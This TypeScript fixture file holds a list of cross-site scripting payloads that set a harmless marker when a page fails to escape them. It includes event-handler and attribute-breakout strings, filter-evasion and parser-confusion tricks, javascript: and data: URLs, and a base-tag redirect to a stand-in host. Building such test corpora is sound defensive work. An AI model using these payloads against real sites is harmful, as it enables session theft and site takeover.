/**
 * Texts that run `window.hacked = 1` if a page inserts one of them unescaped into markup, an address, an attribute, a
 * template or JSON. The kinds of attack follow the cheat sheets of OWASP and PortSwigger.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  "<img src=x onerror=window.hacked=1>",
  '"><script>window.hacked=1</script>',
  "<svg/onload=window.hacked=1>",
  "javascript:window.hacked=1",
  "{{constructor.constructor('window.hacked=1')()}}",
  "</title><iframe srcdoc='<script>parent.hacked=1</script>'>",
];

/** One text of each kind of attack, for fields that accept any text. */
export const HOSTILE_CORPUS: readonly string[] = [
  ...HOSTILE_TEXTS,
  "<script>window.hacked=1</script>",
  "<ScRiPt src=data:,window.hacked=1></sCrIpT>",
  "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
  "</script><script>window.hacked=1</script>",
  "</textarea><script>window.hacked=1</script>",
  "</style><img src=x onerror=window.hacked=1>",
  "--><img src=x onerror=window.hacked=1>",
  "]]><img src=x onerror=window.hacked=1>",
  "' onmouseover=window.hacked=1 autofocus onfocus=window.hacked=1 x='",
  '" onmouseover=window.hacked=1 autofocus onfocus=window.hacked=1 x="',
  "` onmouseover=window.hacked=1 x=`",
  "<input autofocus onfocus=window.hacked=1>",
  "<details open ontoggle=window.hacked=1>",
  "<video><source onerror=window.hacked=1></video>",
  "<body onload=window.hacked=1><marquee onstart=window.hacked=1>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
  "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
  "<a href='jav&#x09;ascript:window.hacked=1'>a</a>",
  "<object data='data:text/html,<script>parent.hacked=1</script>'></object>",
  "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:window.hacked=1'>",
  "data:text/html,<script>parent.hacked=1</script>",
  "\u0024{window.hacked=1} #{window.hacked=1} <%= window.hacked=1 %>",
  '\\"});window.hacked=1;({"',
  "&lt;img src=x onerror=window.hacked=1&gt;",
  "\u202eonerror=window.hacked=1\u2066",
];
